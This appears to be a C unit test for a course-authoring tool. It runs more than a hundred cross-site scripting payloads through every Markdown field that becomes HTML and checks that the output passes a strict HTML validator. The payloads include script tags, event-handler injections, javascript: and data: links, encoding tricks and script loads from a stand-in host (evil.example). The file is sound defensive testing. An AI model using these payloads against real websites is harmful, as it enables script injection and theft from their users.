// SPDX-License-Identifier: Apache-2.0
// Hostile words through every place of a course that becomes HTML: bodies, headings, tables, options, feedback,
// answers, prompts, terms, alternative texts, titles and names of files. Whatever comes out is read by strict_html.
#include "ground.h"

#include "strict_html.h"

#include <string.h>

static const char *const vectors[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<div style=\"width:expression(alert(1))\">",
    "<p/onmouseover=alert(1)>x",
    "</p><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "`onmouseover=alert(1)`",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:x)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](https:evil.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x](https://a.example/<script>alert(1)</script>)",
    "[x](https://a.example \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://a.example '\" onmouseover=alert(1) \"')",
    "[x](#\" onmouseover=\"alert(1))",
    "[x](#%22onmouseover=%22alert(1))",
    "[x](#'><script>alert(1)</script>)",
    "[x](?javascript:alert(1))",
    "[\"><script>alert(1)</script>](https://a.example)",
    "[<script>alert(1)</script>](https://a.example)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AA)",
    "![\" onerror=\"alert(1)](https://a.example/x.png)",
    "![\" onerror=\"alert(1)](../assets/p.svg)",
    "![x](../assets/p.svg \"\\\" onerror=\\\"alert(1)\")",
    "![x](../assets/p.svg '\"><script>alert(1)</script>')",
    "![<script>alert(1)</script>](../assets/p.svg)",
    "![\"><img src=x onerror=alert(1)>](../assets/v.mp4)",
    "![' onplay='alert(1)](../assets/s.mp3 \"<script>alert(1)</script>\")",
    "![x](../assets/%22onerror=alert(1).svg)",
    "![x](<../assets/'quoted' & <odd>.svg>)",
    "![[x](javascript:alert(1))](../assets/p.svg)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](https://a.example/x.png)](https://a.example)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<a@b.example\"onmouseover=alert(1)>",
    "<mailto:a@b.example?body=<script>>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[y]: https://a.example \"\\\" onmouseover=\\\"alert(1)\"\n\n[y]",
    "`<script>alert(1)</script>`",
    "``` \"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\nx\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "## <script>alert(1)</script> {#x\" onmouseover=\"alert(1)}",
    "## x {#\"><script>alert(1)</script>}",
    "## x {#javascript:alert(1)}",
    "## \" onmouseover=\"alert(1)",
    "### <img src=x onerror=alert(1)> {guide}",
    "| <script> | \" |\n|---|---|\n| ' | <img src=x onerror=alert(1)> |",
    "| `<b>\\|` | [x](javascript:alert(1)) |\n|---|---|\n| \\| | & |",
    "1000000000. <b>x</b>",
    "- [x](javascript:alert(1)) → <script>alert(1)</script>",
    "- = <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&quot; onmouseover=&quot;alert(1)",
    "\\<script\\>alert(1)\\</script\\>",
    "\\\" onmouseover=\\\"alert(1)",
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E"
    "alert(1)",
    "\xE2\x80\xAE>tpircs<",
    "\xC2\x91<script>\xC2\x92",
    "{{title}} {{{body}}} <%= x %> ${x}",
    "%n%s%p %00 &#0; &#xD800;",
};

static void check(const char *vector, html made) {
    size_t at = 0;
    const char *fault = fault_of_html(text_of_html(made), &at);
    if (fault) {
        print_error("%s\nbecomes, with %s at %zu:\n%.*s\n", vector, fault, at, PRINT(made));
        fail();
    }
}

static void check_option(const char *vector, const struct option *option) {
    check(vector, option->html);
    check(vector, option->feedback_html);
    check(vector, option->right_html);
}

static void check_quiz(const char *vector, const struct quiz *quiz) {
    for (size_t i = 0; i < quiz->questions_count; i++) {
        const struct question *question = &quiz->questions[i];
        check(vector, question->title_html);
        check(vector, question->prompt_html);
        check(vector, question->explanation_html);
        for (size_t j = 0; j < question->options_count; j++) {
            check_option(vector, &question->options[j]);
        }
    }
}

static void check_workbook(const char *vector, const struct workbook *workbook) {
    for (size_t i = 0; i < workbook->groups_count; i++) {
        const struct prompt_group *group = &workbook->groups[i];
        check(vector, group->title_html);
        check(vector, group->prompt_html);
        for (size_t j = 0; j < group->prompts_count; j++) {
            check(vector, group->prompts[j].title_html);
            check(vector, group->prompts[j].prompt_html);
            for (size_t k = 0; k < group->prompts[j].options_count; k++) {
                check_option(vector, &group->prompts[j].options[k]);
            }
        }
    }
}

static void check_course(const char *vector, const struct course *course) {
    check(vector, course->about_html);
    for (size_t i = 0; i < course->terms_count; i++) {
        check(vector, course->terms[i].definition_html);
    }
    for (size_t i = 0; i < course->modules_count; i++) {
        const struct module *module = &course->modules[i];
        check(vector, module->introduction_html);
        for (size_t j = 0; j < module->units_count; j++) {
            check(vector, module->units[j].body_html);
            check(vector, module->units[j].introduction_html);
            if (module->units[j].quiz) {
                check_quiz(vector, module->units[j].quiz);
            }
            if (module->units[j].workbook) {
                check_workbook(vector, module->units[j].workbook);
            }
        }
    }
}

// The form with the vector in place of each '@', its later lines indented by so much as the '@' is.
static const char *make_form(struct arena *arena, const char *form, const char *vector) {
    text made = TEXT("");
    size_t column = 0;
    for (const char *at = form; *at; at++) {
        column = *at == '\n' ? 0 : column + 1;
        if (*at != '@') {
            made = make_joined(arena, made, (text){at, 1});
            continue;
        }
        text rest = text_from(vector);
        text line;
        for (bool is_first = true; text_next(&rest, '\n', &line); is_first = false) {
            made = make_textf(arena, "%.*s%s%*s%.*s", PRINT(made), is_first ? "" : "\n", is_first ? 0 : (int)column - 1,
                              "", PRINT(line));
        }
    }
    return made.bytes;
}

static void hostile_words_come_out_harmless(void **state) {
    struct ground *ground = *state;
    assert_true(sizeof(vectors) / sizeof(vectors[0]) >= 100);
    for (size_t i = 0; i < sizeof(vectors) / sizeof(vectors[0]); i++) {
        const char *vector = vectors[i];
        reset_arena(ground->arena);
        ground->problems = make_problems(ground->arena);
        struct arena *arena = ground->arena;
        const struct literal_file files[] = {
            {"course.md", make_form(arena, "---\ntitle: '@'\nsummary: '@'\n---\n\n@\n", vector)},
            {"framework.md", make_form(arena, "## @\n\n- a: @\n", vector)},
            {"glossary.md", make_form(arena, "## @\n\n@\n", vector)},
            {"01-one/module.md", make_form(arena, "---\ntitle: \"@\"\n---\n\n@\n", vector)},
            {"01-one/01-lesson.md",
             make_form(
                 arena,
                 "---\ntitle: x\n---\n\n@\n\nwords @ words *@* **@**\n\n## @\n\n> @\n\n- @\n\n| @ | a |\n|---|---|\n| "
                 "@ | `@` |\n\n![@](../assets/p.svg \"@\")\n\n![@](../assets/v.mp4)\n\n[@](#x '@') [x](@) ![y](<@>)\n",
                 vector)},
            {"01-one/02-quiz.md",
             make_form(arena,
                       "---\nkind: quiz\ntitle: x\n---\n\n@\n\n## @ {#a}\n\n@\n\n- [ ] @\n  > @\n- [x] b @\n\n> "
                       "@\n\n## b @\n\n"
                       "- = @\n\n## c {group=@ was=@}\n\n1. @\n2. c @\n\n## d\n\n- @ → @\n- e @ -> f @\n",
                       vector)},
            {"01-one/03-workbook.md", make_form(arena,
                                                "---\nkind: workbook\ntitle: x\n---\n\n@\n\n## @\n\n@\n\n### "
                                                "@\n\n@\n\n- ( ) @\n- ( ) b @\n\n### c @\n\n"
                                                "1 … 5: @ … @\n",
                                                vector)},
            {"assets/'quoted' & <odd>.svg", "<svg width=\"1\" height=\"1\"/>"},
            {"assets/p.svg", "<svg/>"},
            {"assets/s.md", make_form(arena, "@\n\n## @\n", vector)},
            {"assets/s.mp3", "x"},
            {"assets/v.en.vtt", "WEBVTT"},
            {"assets/v.md", make_form(arena, "@\n", vector)},
            {"assets/v.mp4", "x"},
        };
        struct course *course = read_literal_course(ground, files, sizeof(files) / sizeof(files[0]));
        assert_non_null(course);
        check_course(vector, course);
    }
}

static void the_reader_of_this_test_sees_what_is_wrong(void **state) {
    (void)state;
    static const char *const wrong[] = {
        "<script>",
        "<p onclick=\"x\">a</p>",
        "<a href=\"javascript:x\">a</a>",
        "<p>",
        "</p>",
        "<p><em></p></em>",
        "a & b",
        "a > b",
        "a \" b",
        "<img src=x>",
        "<img src=\"//e\">",
        "<a href=\"ftp://x\">a</a>",
        "<a href='x'>a</a>",
        "<h2 id=\"a<b\">a</h2>",
        "<P>a</P>",
        "<!-- a -->",
        "<img src=\"/courses/x\"",
        "<img src=\"https://e.example/\">",
        "&nbsp;",
        "<p class=\"a\">b</p>",
        "<ol start=\"x\"></ol>",
        "<video controls src=\"/courses/x\" autoplay></video>",
    };
    size_t at;
    for (size_t i = 0; i < sizeof(wrong) / sizeof(wrong[0]); i++) {
        assert_non_null(fault_of_html(text_from(wrong[i]), &at));
    }
    assert_null(fault_of_html(TEXT("<p>a &amp; <a href=\"mailto:x\" rel=\"noopener\">b</a><br></p>"), &at));
}

int main(void) {
    const struct CMUnitTest tests[] = {
        CONTENT_TEST(hostile_words_come_out_harmless),
        CONTENT_TEST(the_reader_of_this_test_sees_what_is_wrong),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
